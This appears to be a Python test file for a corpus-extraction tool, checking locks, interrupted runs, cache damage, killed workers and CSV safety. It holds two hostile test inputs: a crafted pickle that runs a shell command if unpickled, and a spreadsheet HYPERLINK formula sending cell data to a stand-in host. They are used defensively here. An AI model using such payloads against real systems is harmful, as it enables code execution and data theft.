"""Runs that go wrong: a second run into the same folder, an interrupted run, a damaged or
crafted cache entry, a worker process killed mid-run, an output folder that contains the input.
Each must leave readable, consistent tables and say what happened."""

from __future__ import annotations

import json
import os
import shutil
import signal
import threading
import time
from pathlib import Path

import pytest

from dossier import cli, config
from dossier.corpus import engines, extract, output, work
from dossier.corpus.cache import Cache
from dossier.tables import read_table

DOCS = {f"note-{i}.txt": f"The Home Office said on Monday that it gave Turkey £{i}m. Frontex agreed.\n\nLine {i}.\n"
        for i in range(6)}


def _corpus(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in DOCS.items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def test_a_second_run_into_the_same_folder_fails_fast_naming_the_first(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    holder = output.Lock(out)
    holder.path.write_text("1\n")  # pid 1 is always alive: a run that holds the folder
    with pytest.raises(output.RunLocked, match=r"pid 1\b"):
        extract([_corpus(tmp_path / "in")], out)
    assert not list(out.glob("*.csv"))
    rc = None
    try:
        rc = cli.main(["extract", str(tmp_path / "in"), "--out", str(out), "--quiet"])
    except SystemExit as exc:
        rc = exc.code
    assert rc == 2
    holder.path.unlink()


def test_a_stale_lock_of_a_dead_run_is_taken_over(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / output.LOCK).write_text("999999999\n")  # no such process
    summary = extract([_corpus(tmp_path / "in")], out, cache_dir=tmp_path / "cache")
    assert summary.accepted == 6 and not (out / output.LOCK).exists()


def test_an_interrupted_run_leaves_the_previous_tables_whole(tmp_path, monkeypatch):
    src, out = _corpus(tmp_path / "in"), tmp_path / "out"
    extract([src], out, cache_dir=tmp_path / "cache")
    before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    (src / "note-9.txt").write_text("A new note about Greece and Libya.\n", encoding="utf-8")

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(output, "commit", interrupted)
    with pytest.raises(KeyboardInterrupt):
        extract([src], out, cache_dir=tmp_path / "cache")
    after = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    assert after == before  # the previous complete run, untouched
    assert not (out / output.STAGING).exists() and not (out / output.LOCK).exists()


def test_a_commit_cut_short_is_finished_by_the_next_run(tmp_path):
    src, out = _corpus(tmp_path / "in"), tmp_path / "out"
    extract([src], out, cache_dir=tmp_path / "cache")
    stage = output.begin(out)
    (stage / "documents.csv").write_text("half of a commit\n")
    (stage / output.COMMIT).write_text("documents.csv\n")
    note = output.recover(out)
    assert "finished" in note and (out / "documents.csv").read_text() == "half of a commit\n"
    summary = extract([src], out, cache_dir=tmp_path / "cache")
    assert len(read_table("documents", out)) == summary.accepted == 6


def test_a_damaged_or_crafted_cache_entry_is_recomputed_and_never_executed(tmp_path):
    src, out, cache_dir = _corpus(tmp_path / "in"), tmp_path / "out", tmp_path / "cache"
    extract([src], out, cache_dir=cache_dir)
    reference = read_table("mentions", out)
    entries = sorted((cache_dir / "docs").glob("*/*.json"))
    assert len(entries) == 6
    entries[0].write_bytes(entries[0].read_bytes()[:40])  # truncated
    marker = tmp_path / "pwned"
    # a pickle that would run code if it were unpickled, under an entry's name
    entries[1].write_bytes(b"cos\nsystem\n(S'touch " + str(marker).encode() + b"'\ntR.")
    summary = extract([src], tmp_path / "out2", cache_dir=cache_dir)
    assert not marker.exists()
    assert summary.analysed == 2 and summary.cached == 4
    assert any("2 damaged cache entries" in n for n in summary.notes)
    assert read_table("mentions", tmp_path / "out2").equals(reference)
    again = extract([src], tmp_path / "out3", cache_dir=cache_dir)
    assert again.analysed == 0 and not again.notes  # replaced: reported once


@pytest.mark.slow
def test_a_killed_worker_process_is_noticed_and_its_documents_retried(tmp_path, monkeypatch):
    src = _corpus(tmp_path / "in")
    (src / "poison.txt").write_text("KILLME: this document kills the worker that reads it.\n", encoding="utf-8")
    real = work.analyse

    def deadly(doc, task, ref):
        if "KILLME" in task["text"]:
            os.kill(os.getpid(), signal.SIGKILL)
        return real(doc, task, ref)

    monkeypatch.setattr(work, "analyse", deadly)
    done = {}

    def run():
        done["summary"] = extract([src], tmp_path / "out", cache_dir=tmp_path / "cache", jobs=2, batch_size=2)

    t = threading.Thread(target=run, daemon=True)
    t.start()
    t.join(timeout=240)
    assert not t.is_alive(), "the run hung after a worker was killed"
    summary = done["summary"]
    assert summary.accepted == 6 and summary.analysed == 6
    assert [f for f, _ in summary.rejected_files] == [next(f for f, _ in summary.rejected_files)]
    assert "worker process died" in summary.rejected_files[0][1]
    log = read_table("ingest_log", tmp_path / "out")
    assert log.loc[log["file"].str.endswith("poison.txt"), "status"].tolist() == ["rejected"]
    assert len(read_table("documents", tmp_path / "out")) == 6


def test_an_output_folder_that_contains_the_input_still_reads_the_input(tmp_path):
    out = tmp_path / "project"
    src = _corpus(out / "corpus")
    summary = extract([src], out, cache_dir=out / ".cache")
    assert summary.accepted == 6
    again = extract([src], out)  # its own cache and tables inside are not read as documents
    assert again.accepted == 6 and again.n_files == 6
    manifest = json.loads((out / "summary.json").read_text())
    assert manifest["rows"]["documents"] == 6 and len(manifest["inputs"]) == 6
    assert set(manifest["tables"]) >= {"documents", "mentions", "quotes"}


def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_parquet_keeps_the_text(tmp_path):
    import csv as csv_mod

    src = tmp_path / "in"
    src.mkdir()
    (src / "formula.txt").write_text('=HYPERLINK("http://example.invalid/?"&A1,"x")\n\n'
                                     "@SUM(1+1) said the Home Office.\n", encoding="utf-8")
    extract([src], tmp_path / "out", cache_dir=tmp_path / "cache")
    with open(tmp_path / "out" / "paragraphs.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv_mod.DictReader(fh))
    with open(tmp_path / "out" / "documents.csv", newline="", encoding="utf-8") as fh:
        doc = next(csv_mod.DictReader(fh))
    assert doc["text"].startswith("'=HYPERLINK")
    exact = read_table("documents", tmp_path / "out")
    assert exact.loc[0, "text"].startswith("=HYPERLINK")  # Parquet: the exact text
    assert all(not r[k].startswith(("=", "+", "@")) for r in rows for k in r)


def test_the_table_writer_neutralises_exactly_the_cells_the_cell_rule_does(tmp_path):
    """The writer finds the cells to neutralise with one vectorised test on their first
    character; its CSV must hold, cell for cell, what the one-cell rule gives. (No bare carriage
    return: ingestion turns every line end into a newline.)"""
    import csv as csv_mod

    import pandas as pd

    from dossier.csvsafe import neutralise_csv_cell
    from dossier.schema import TABLES
    from dossier.tables import TableWriter

    cells = ["", "=1+1", "+44 20 7946 0958", "-3", "-3 degrees", "@user", "'quoted'", "\tTab",
             "plain", "'", "-", "+4.5", "-1e-3", "=", "’curly", None, "A=B", " =lead space"]
    table = TABLES["documents"]
    rows = [{c.name: None if c.nullable else (f"doc-{i}" if c.dtype == "string" else i) for c in table.columns}
            for i in range(len(cells))]
    for r, cell in zip(rows, cells):
        r["title"] = r["note"] = cell
    with TableWriter(tmp_path, table, ("csv",)) as w:
        w.write(rows)  # rows: buffered, then written as one frame
        w.write(pd.DataFrame(rows, columns=table.names))  # a frame: written as it is
    with open(tmp_path / "documents.csv", newline="", encoding="utf-8") as fh:
        got = [(r["title"], r["note"]) for r in csv_mod.DictReader(fh)]
    want = [neutralise_csv_cell(c) if c is not None else "" for c in cells]
    assert got == list(zip(want, want)) * 2


def test_a_corpus_step_reads_this_runs_tables_never_the_projects(tmp_path):
    """Notebook 04 asks only for reuse and lineage: the documents it aligns must be this run's."""
    src = _corpus(tmp_path / "in")
    layout = {name: tmp_path / ("interim" if name in ("documents", "paragraphs", "ingest_log", "sentences") else "processed")
              for name in ("documents", "paragraphs", "ingest_log", "sentences", "mentions", "entities", "reuse", "lineage")}
    extract([src], layout["documents"], tables=("documents", "paragraphs", "ingest_log"), layout=layout, write_summary=False)
    extract([src], layout["reuse"], cache_dir=tmp_path / "cache", tables=("reuse", "lineage"), layout=layout,
            write_summary=False)
    ours = set(read_table("documents", layout["documents"])["doc_id"])
    lineage = read_table("lineage", layout["lineage"])
    assert set(lineage["doc_id"]) <= ours and set(read_table("reuse", layout["reuse"])["doc_id"]) <= ours


def test_a_corpus_steps_result_is_reused_when_its_inputs_are_unchanged(tmp_path, monkeypatch):
    from dossier import reuse

    src = _corpus(tmp_path / "in")
    extract([src], tmp_path / "a", cache_dir=tmp_path / "cache")
    calls = []
    real = reuse.build
    monkeypatch.setattr(reuse, "build", lambda *a, **k: calls.append(1) or real(*a, **k))
    extract([src], tmp_path / "b", cache_dir=tmp_path / "cache")
    assert not calls  # unchanged documents: the cached reuse tables
    assert read_table("lineage", tmp_path / "b").equals(read_table("lineage", tmp_path / "a"))
    (src / "note-0.txt").write_text("A different note about Frontex.\n", encoding="utf-8")
    extract([src], tmp_path / "c", cache_dir=tmp_path / "cache")
    assert calls == [1]


def test_the_command_ends_fast_with_its_output_and_status_whole(tmp_path):
    """``dossier`` (``cli.entry``) ends the process without tearing down its heap: what it
    printed, the tables and the summary are all there, the exit status is main's, a wrong
    argument still exits 2 with its message, and exit handlers still run (a file an atexit
    handler writes appears)."""
    import subprocess
    import sys

    corpus = _corpus(tmp_path / "in")
    out = tmp_path / "out"
    done = subprocess.run([sys.executable, "-m", "dossier.cli", "extract", str(corpus), "--out", str(out), "--quiet"],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert "documents/s" in done.stdout
    assert json.loads((out / "summary.json").read_text())["documents"] == len(DOCS)
    assert len(read_table("documents", out)) == len(DOCS)
    bad = subprocess.run([sys.executable, "-m", "dossier.cli", "extract", str(corpus)], capture_output=True, text=True,
                         timeout=120)
    assert bad.returncode == 2 and "--out" in bad.stderr
    marker = tmp_path / "atexit-ran"
    code = ("import atexit, sys; from dossier import cli; "
            f"atexit.register(lambda: open({str(marker)!r}, 'w').write('ok')); "
            f"sys.argv = ['dossier', 'extract', {str(corpus)!r}, '--out', {str(tmp_path / 'again')!r}, '--quiet']; "
            "cli.entry(); print('not reached')")
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)
    assert ran.returncode == 0 and "documents/s" in ran.stdout and "not reached" not in ran.stdout
    assert marker.read_text() == "ok"


def _files(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.suffix in (".csv", ".parquet")}


def test_a_warm_run_copies_the_tables_it_wrote_before_byte_for_byte(tmp_path, monkeypatch):
    """Unchanged documents: the assembled tables and the corpus steps' tables are the files the
    first run wrote, copied from the cache (no document's cache entry is read back, no step
    runs); a damaged kept file is never copied (the tables are made again, the same bytes); one
    changed document makes the assembly run again."""
    from dossier import reuse
    from dossier.claims import record

    src = _corpus(tmp_path / "in")
    cache_dir = tmp_path / "cache"
    extract([src], tmp_path / "a", cache_dir=cache_dir)
    first = _files(tmp_path / "a")
    assert {"mentions.csv", "entities.parquet", "reuse.csv", "claim_groups.parquet"} <= set(first)
    reads, steps = [], []
    real_get = Cache.get
    monkeypatch.setattr(Cache, "get", lambda self, *a: reads.append(a) or real_get(self, *a))
    for module, name in ((reuse, "build"), (record, "run")):
        real = getattr(module, name)
        monkeypatch.setattr(module, name, lambda *a, _real=real, **k: steps.append(1) or _real(*a, **k))
    summary = extract([src], tmp_path / "b", cache_dir=cache_dir)
    assert not reads and not steps
    assert _files(tmp_path / "b") == first
    assert summary.rows["mentions"] == len(read_table("mentions", tmp_path / "a")) > 0
    kept_mentions = next((cache_dir / "assembled").glob("*/mentions.csv"))
    kept_mentions.write_bytes(kept_mentions.read_bytes() + b"x")  # damaged: not copied
    extract([src], tmp_path / "c", cache_dir=cache_dir)
    assert len(reads) == len(DOCS) and _files(tmp_path / "c") == first
    reads.clear()
    (src / "note-0.txt").write_text("The Home Office said on Friday that Frontex agreed.\n", encoding="utf-8")
    extract([src], tmp_path / "d", cache_dir=cache_dir)
    assert len(reads) == len(DOCS) and steps  # assembled again, the steps run on the new tables
    assert _files(tmp_path / "d")["documents.csv"] != first["documents.csv"]
